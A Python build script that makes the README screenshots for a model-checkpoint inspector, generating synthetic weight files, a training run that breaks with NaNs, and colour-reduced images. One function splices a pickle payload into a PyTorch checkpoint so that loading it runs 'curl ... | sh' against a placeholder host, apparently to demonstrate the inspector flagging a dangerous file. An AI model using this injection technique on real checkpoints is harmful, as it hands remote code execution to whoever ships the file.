"""Makes the pictures of the README: python resources/pictures/make.py [FOLDER] [NAME...]

Each is drawn by `inspector ... --screenshot`, of samples that are made here, and reduced to 256 colours: a picture of a window has few.
"""
from __future__ import annotations

import os
import pickle
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
from numpy.typing import NDArray
from PySide6.QtGui import QImage

from inspector import core

HERE = Path(__file__).resolve().parent
LARGEST = 200_000               # bytes
Colours = NDArray[Any]


class Picture(NamedTuple):
    """`files` are names of samples, in the folder they are made in."""

    name: str
    files: tuple[str, ...]
    theme: str = "light"
    panel: str = "overview"
    key: str = ""
    size: str = "1440x900"
    language: str = "en"


PICTURES = (
    Picture("window-light", ("digits_training.pth", "digits_finetuned.safetensors")),
    Picture("statistics-dark", ("digits_training.pth",), "dark", "statistics", "model_state_dict.module.layer3.1.conv1.weight"),
    Picture("compare-light", ("digits_training.pth", "digits_finetuned.safetensors"), panel="compare"),
    Picture("window-zh", ("digits_training.pth",), size="1024x700", language="zh_CN"),
    Picture("layers-light", ("transformer.safetensors",), panel="layers"),
    Picture("kernels-dark", ("digits_training.pth",), "dark", "heatmap", "model_state_dict.module.stem.conv.weight"),
    Picture("run-light", ("epochs",), panel="run"),
    Picture("danger-dark", ("weights_from_a_forum.pth",), "dark"),
)


class _Command:
    """What a pickle from somebody else may be: loading it would run this."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl -s https://example.org/x.sh | sh",)


def make_samples(folder: Path) -> None:
    core.make_demo(folder)
    _transformer(folder / "transformer.safetensors")
    _run(folder / "epochs")
    _dangerous(folder / "weights_from_a_forum.pth")


def make(picture: Picture, samples: Path, out: Path) -> None:
    """Draws one picture. Raises subprocess.CalledProcessError."""
    env = {**os.environ, "INSPECTOR_THEME": picture.theme, "INSPECTOR_SCREENSHOT_PANEL": picture.panel,
           "INSPECTOR_SCREENSHOT_KEY": picture.key, "INSPECTOR_SCREENSHOT_SIZE": picture.size}
    subprocess.run([sys.executable, "-m", "inspector", *picture.files, "--lang", picture.language, "--screenshot", str(out)], cwd=samples,
                   env=env, check=True, timeout=300)
    reduce(out)


def reduce(path: Path) -> None:
    """To 256 colours, of which the most frequent stay exactly as they are. Qt's own reduction takes a fixed set."""
    picture = QImage(str(path)).convertToFormat(QImage.Format.Format_RGB32)
    width, height = picture.width(), picture.height()
    pixels = np.frombuffer(picture.constBits(), np.uint32).reshape(height, width) & 0xffffff
    colours, where, counts = np.unique(pixels, return_inverse=True, return_counts=True)
    order = np.argsort(-counts)
    exact, others = colours[order[:160]], colours[order[160:]]
    chosen = np.concatenate([_parts(exact), _means(_parts(others), counts[order[160:]], 96)]) if len(others) else _parts(exact)
    nearest = np.concatenate([_nearest(_parts(piece), chosen) for piece in np.array_split(colours, max(1, len(colours) // 4096))])
    rows = np.zeros((height, (width + 3) // 4 * 4), np.uint8)           # Qt's lines end at multiples of four bytes
    rows[:, :width] = nearest[where].reshape(height, width)
    made = QImage(rows.tobytes(), width, height, rows.shape[1], QImage.Format.Format_Indexed8)
    made.setColorTable([0xff000000 | int(r) << 16 | int(g) << 8 | int(b) for r, g, b in np.rint(chosen).astype(int)])
    made.save(str(path), quality=0)


def _parts(colours: Colours) -> Colours:
    """Red, green and blue of each."""
    return np.stack([colours >> 16 & 255, colours >> 8 & 255, colours & 255], axis=1).astype(np.float64)


def _nearest(parts: Colours, chosen: Colours) -> Colours:
    found: Colours = ((parts[:, None] - chosen[None]) ** 2).sum(axis=2).argmin(axis=1)
    return found


def _means(parts: Colours, counts: Colours, n: int) -> Colours:
    """`n` colours that stand for all of `parts`: some of them moved to the middle of those that are nearest, ten times."""
    chosen: Colours = parts[np.linspace(0, len(parts) - 1, min(n, len(parts))).astype(int)]
    for _ in range(10):
        nearest = np.concatenate([_nearest(piece, chosen) for piece in np.array_split(parts, max(1, len(parts) // 4096))])
        for k in range(len(chosen)):
            mine = nearest == k
            if mine.any():
                chosen[k] = np.average(parts[mine], axis=0, weights=counts[mine])
    return chosen


def _transformer(path: Path) -> None:
    """Twelve layers whose weights widen with depth, one of them dead."""
    rng = np.random.default_rng(7)
    weights = {"embed_tokens.weight": rng.normal(0, 0.02, (512, 96))}
    for layer in range(12):
        for name, shape in (("self_attn.q_proj", (96, 96)), ("self_attn.v_proj", (96, 96)), ("mlp.up_proj", (256, 96)),
                            ("mlp.down_proj", (96, 256))):
            values = rng.standard_t(4 if "down" in name else 12, shape) * 0.012 * (1 + layer / 5)
            weights[f"layers.{layer}.{name}.weight"] = values * (layer != 8 or name != "mlp.up_proj")
        weights[f"layers.{layer}.input_layernorm.weight"] = rng.normal(1, 0.05, 96)
    core.save({key: values.astype(np.float32) for key, values in weights.items()}, path)


def _run(folder: Path) -> None:
    """Sixteen epochs that learn, and break at the fourteenth."""
    folder.mkdir()
    rng = np.random.default_rng(3)
    shapes = {"stem.weight": (16, 3, 3, 3), **{f"blocks.{n}.{part}.weight": (48, 48) for n in range(6) for part in ("attn", "mlp")},
              "head.weight": (10, 48), "head.bias": (10,)}
    weights = {key: rng.normal(0, 0.1, shape) for key, shape in shapes.items()}
    for epoch in range(16):
        for key, values in weights.items():
            values += rng.normal(0, 0.03 * np.exp(-epoch / 5) * (0.2 if key.startswith("stem") else 1), values.shape)
        broken = epoch >= 13
        if broken:
            weights["blocks.5.mlp.weight"][:epoch - 10] = np.nan
        loss = float("nan") if broken else float(1.9 * np.exp(-epoch / 4) + 0.12 + rng.normal(0, 0.02))
        core.save({"epoch": epoch, "model_state_dict": {key: values.astype(np.float32) for key, values in weights.items()},
                   "train_loss": loss, "val_acc": 0.1 if broken else float(0.97 - 0.8 * np.exp(-epoch / 3) + rng.normal(0, 0.005))},
                  folder / f"epoch_{epoch:02}.pth")


def _dangerous(path: Path) -> None:
    """A checkpoint that somebody put a command into."""
    rng = np.random.default_rng(5)
    core.save({"model": {"fc1.weight": rng.normal(size=(64, 32)).astype(np.float32), "fc1.bias": np.zeros(64, np.float32),
                         "fc2.weight": rng.normal(size=(10, 64)).astype(np.float32)}, "epoch": 40, "note": "best so far"}, path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    pickled = next(name for name in members if name.endswith("/data.pkl"))
    command = pickle.dumps(_Command(), 2)[2:-1]                         # without its head and its end
    assert members[pickled].endswith(b".")
    members[pickled] = members[pickled][:-1] + b"X\x06\x00\x00\x00config" + command + b"s."
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def main(arguments: list[str]) -> int:
    out, wanted = Path(arguments[0]).resolve() if arguments else HERE, arguments[1:]
    with tempfile.TemporaryDirectory() as folder:
        make_samples(Path(folder))
        for picture in PICTURES:
            if not wanted or picture.name in wanted:
                path = out / f"{picture.name}.png"
                make(picture, Path(folder), path)
                print(f"{path}: {path.stat().st_size:,} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
